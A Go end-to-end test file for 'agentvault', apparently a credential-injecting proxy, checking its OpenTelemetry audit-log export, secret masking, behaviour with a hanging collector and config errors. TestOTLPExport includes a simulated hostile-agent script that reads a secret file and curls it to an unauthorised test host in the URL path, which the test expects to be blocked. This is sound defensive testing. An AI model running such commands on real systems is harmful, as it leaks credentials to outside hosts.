package e2e

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	collogspb "go.opentelemetry.io/proto/otlp/collector/logs/v1"
	commonpb "go.opentelemetry.io/proto/otlp/common/v1"
	"google.golang.org/protobuf/proto"
)

// otlpReceiver is a local OTLP/HTTP logs endpoint that decodes with the
// official protobuf types and keeps the raw bodies for the leak checks.
type otlpReceiver struct {
	*httptest.Server
	mu      sync.Mutex
	raw     [][]byte
	headers []http.Header
	records []map[string]any // each record's attributes
}

// newOTLPReceiver serves https on 127.0.0.1 with a certificate from the e2e
// test CA, so agentvault must apply --upstream-ca to its exporter too.
func newOTLPReceiver(t *testing.T) *otlpReceiver {
	t.Helper()
	rc := &otlpReceiver{}
	rc.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		var req collogspb.ExportLogsServiceRequest
		if err == nil {
			err = proto.Unmarshal(body, &req)
		}
		if err != nil || r.URL.Path != "/v1/logs" || r.Header.Get("Content-Type") != "application/x-protobuf" {
			http.Error(w, "bad export", http.StatusBadRequest)
			return
		}
		rc.mu.Lock()
		defer rc.mu.Unlock()
		rc.raw = append(rc.raw, body)
		rc.headers = append(rc.headers, r.Header.Clone())
		for _, rl := range req.GetResourceLogs() {
			for _, sl := range rl.GetScopeLogs() {
				for _, lr := range sl.GetLogRecords() {
					rc.records = append(rc.records, otlpAttrs(lr.GetAttributes()))
				}
			}
		}
	}))
	rc.Server.TLS = &tls.Config{Certificates: []tls.Certificate{ipLeaf(t, "127.0.0.1")}}
	rc.StartTLS()
	t.Cleanup(rc.Close)
	return rc
}

// ipLeaf is a test-CA certificate for an IP address (the shared leaf names
// host names only).
func ipLeaf(t *testing.T, ip string) tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()),
		Subject:      pkix.Name{CommonName: ip},
		IPAddresses:  []net.IP{net.ParseIP(ip)},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, testCA.Cert, &key.PublicKey, testCA.Key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der, testCA.Cert.Raw}, PrivateKey: key}
}

func otlpAttrs(kvs []*commonpb.KeyValue) map[string]any {
	m := map[string]any{}
	for _, kv := range kvs {
		switch v := kv.GetValue().GetValue().(type) {
		case *commonpb.AnyValue_StringValue:
			m[kv.GetKey()] = v.StringValue
		case *commonpb.AnyValue_IntValue:
			m[kv.GetKey()] = float64(v.IntValue) // compared with JSON numbers
		case *commonpb.AnyValue_DoubleValue:
			m[kv.GetKey()] = v.DoubleValue
		case *commonpb.AnyValue_BoolValue:
			m[kv.GetKey()] = v.BoolValue
		}
	}
	return m
}

// auditKey identifies a record by the fields both outputs carry.
func auditKey(session, action, host string, port float64, path, cred string, status float64) string {
	return fmt.Sprintf("%s %s %s:%v %q cred=%s status=%v", session, action, host, port, path, cred, status)
}

// TestOTLPExport: with audit.otlp set, the team's collector receives one
// log record per audit-log line with the session, host, credential, action
// and status as attributes; what a hostile agent put in a path (the real
// secret, its placeholder) arrives masked, and no export body holds either.
// The collector's token comes from agentvault's environment through
// ${NAME}, reaches the collector as a header and never the command.
func TestOTLPExport(t *testing.T) {
	needBinary(t)
	needTestTool(t, "curl")
	secret := newSecret(t, "otlp")
	collectorToken := newSecret(t, "collector")
	secretFile := writeFile(t, t.TempDir(), "token", secret+"\n")
	up := newUpstream(t, true)
	rc := newOTLPReceiver(t)
	cfg := fmt.Sprintf(`version: 1
credentials:
  - name: api
    secret: file:%s
    hosts: [api.example.test]
    inject: bearer
    env: [API_TOKEN]
egress:
  inspect: all
audit:
  otlp:
    endpoint: %s
    headers:
      Authorization: Bearer ${OTEL_COLLECTOR_TOKEN}
      X-Team: agents
`, secretFile, rc.URL)
	s := runSession(t, sessionOpts{
		config:  cfg,
		env:     map[string]string{"LEAK_FILE": secretFile, "OTEL_COLLECTOR_TOKEN": collectorToken},
		connect: []string{connectTo("api.example.test", 443, up.Port), connectTo("other.example.test", 443, up.Port)},
		flags:   []string{"--summary", "plain"},
		script: `s=$(cat "$LEAK_FILE")
` + curlTo("ok", "https://api.example.test/ok/hello") +
			curlTo("ok2", "https://api.example.test/ok/again") +
			curlTo("leak", `https://other.example.test/ok/leak-path/'"$s"'`) +
			curlTo("ph", `https://other.example.test/ok/ph/'"$API_TOKEN"'`),
	})
	if s.code != 0 {
		t.Fatalf("exit %d", s.code)
	}
	if got := strings.TrimSpace(s.file("leak.status")); got != "403" {
		t.Fatalf("leak status %q, want 403", got)
	}
	ph := s.placeholder(t, "API_TOKEN")
	if _, ok := s.childEnv["OTEL_COLLECTOR_TOKEN"]; ok {
		t.Error("the command got the collector token's variable")
	}
	if strings.Contains(s.stderr, "audit.otlp") {
		t.Errorf("an export warning although the collector took everything:\n%s", s.stderr)
	}

	rc.mu.Lock()
	defer rc.mu.Unlock()
	if len(s.audit) < 4 || len(rc.records) != len(s.audit) {
		t.Fatalf("collector got %d records, the audit log has %d lines:\n%s", len(rc.records), len(s.audit), s.auditRaw)
	}
	want := map[string]int{}
	for _, line := range s.audit {
		path, _ := line["path"].(string)
		want[auditKey(line["session"].(string), line["action"].(string), line["host"].(string), line["port"].(float64),
			path, line["credential"].(string), line["status"].(float64))]++
	}
	var paths []string
	for _, a := range rc.records {
		path, _ := a["url.path"].(string)
		cred, _ := a["agentvault.credential"].(string)
		status, _ := a["http.response.status_code"].(float64)
		session, _ := a["session.id"].(string)
		host, _ := a["server.address"].(string)
		port, _ := a["server.port"].(float64)
		action, _ := a["agentvault.action"].(string)
		k := auditKey(session, action, host, port, path, cred, status)
		if want[k] == 0 {
			t.Errorf("collector record %s matches no audit-log line", k)
		}
		want[k]--
		paths = append(paths, path)
		if port == float64(rc.Listener.Addr().(*net.TCPAddr).Port) {
			t.Error("the exporter's own traffic went through the session proxy")
		}
	}
	joined := strings.Join(paths, " ")
	for _, p := range []string{"/ok/hello", "/ok/leak-path/[api]", "/ok/ph/[api placeholder]"} {
		if !strings.Contains(joined, p) {
			t.Errorf("no collector record with path %s (paths: %s)", p, joined)
		}
	}
	for i, body := range rc.raw {
		for _, form := range append(secretForms(secret), ph, collectorToken) {
			if strings.Contains(string(body), form) {
				t.Errorf("export body %d holds a secret, placeholder or the collector token (%.6s...)", i, form)
			}
		}
	}
	h := rc.headers[0]
	if h.Get("Authorization") != "Bearer "+collectorToken || h.Get("X-Team") != "agents" {
		t.Errorf("collector headers: Authorization set=%v, X-Team=%q", h.Get("Authorization") != "", h.Get("X-Team"))
	}
}

// TestOTLPCollectorHangs: a collector that accepts and never answers
// delays agentvault's exit by the 2 s flush bound at most, costs one
// summary warning, and leaves the JSONL audit log complete.
func TestOTLPCollectorHangs(t *testing.T) {
	needBinary(t)
	needTestTool(t, "curl")
	up := newUpstream(t, true)
	release := make(chan struct{})
	hang := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(hang.Close)
	t.Cleanup(func() { close(release) })
	cfg := fmt.Sprintf(`version: 1
credentials:
  - name: api
    secret: env:S_API
    hosts: [api.example.test]
    env: [API_TOKEN]
audit:
  otlp: {endpoint: %s}
`, hang.URL)
	start := time.Now()
	s := runSession(t, sessionOpts{
		config:  cfg,
		env:     map[string]string{"S_API": newSecret(t, "hang")},
		connect: []string{connectTo("api.example.test", 443, up.Port)},
		flags:   []string{"--summary", "plain"},
		script:  curlTo("ok", "https://api.example.test/ok/1") + curlTo("ok2", "https://api.example.test/ok/2"),
	})
	elapsed := time.Since(start)
	t.Logf("run with a hanging collector took %s", elapsed)
	if s.code != 0 {
		t.Fatalf("exit %d", s.code)
	}
	// A hang detector, not a timing target (the flush bound is 2 s).
	if elapsed > 20*time.Second {
		t.Errorf("agentvault took %s to exit with a hanging collector", elapsed)
	}
	if len(s.audit) != 2 {
		t.Fatalf("audit log has %d lines, want 2:\n%s", len(s.audit), s.auditRaw)
	}
	var warnings []string
	for _, line := range strings.Split(s.stderr, "\n") {
		if strings.Contains(line, "audit.otlp") {
			warnings = append(warnings, line)
		}
	}
	if len(warnings) != 1 || !strings.Contains(warnings[0], "audit.otlp: 2 of 2 audit records not delivered to "+hang.URL+"/v1/logs") {
		t.Fatalf("want one audit.otlp warning line, got %q", warnings)
	}
}

// TestOTLPConfigErrors: a bad endpoint or a header variable that is not set
// stops the run with exit 78 before the command starts.
func TestOTLPConfigErrors(t *testing.T) {
	needBinary(t)
	tests := []struct{ name, otlp, want string }{
		{"no scheme", "{endpoint: 'collector:4318'}", "agentvault.yaml:3:20: audit.otlp.endpoint: has no scheme"},
		{"userinfo", "{endpoint: 'http://u:hunter2@127.0.0.1:4318'}", "audit.otlp.endpoint: has a user name or password"},
		{"unset variable", "{endpoint: 'http://127.0.0.1:4318', headers: {Authorization: 'Bearer ${OTLP_UNSET_TOKEN}'}}",
			"audit.otlp.headers.Authorization: environment variable OTLP_UNSET_TOKEN is not set"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			cfg := writeFile(t, dir, "agentvault.yaml", "version: 1\naudit:\n  otlp: "+tt.otlp+"\n")
			marker := writeFile(t, dir, "marker", "")
			_, stderr, code := run(t, nil, "run", "-c", cfg, "--", "rm", marker)
			if code != 78 || !strings.Contains(stderr, tt.want) {
				t.Fatalf("exit %d, stderr:\n%s\nwant 78 and %q", code, stderr, tt.want)
			}
			if strings.Contains(stderr, "hunter2") {
				t.Error("the error repeats the password")
			}
			if readFileOr(marker, "gone") == "gone" {
				t.Error("the command ran")
			}
		})
	}
}
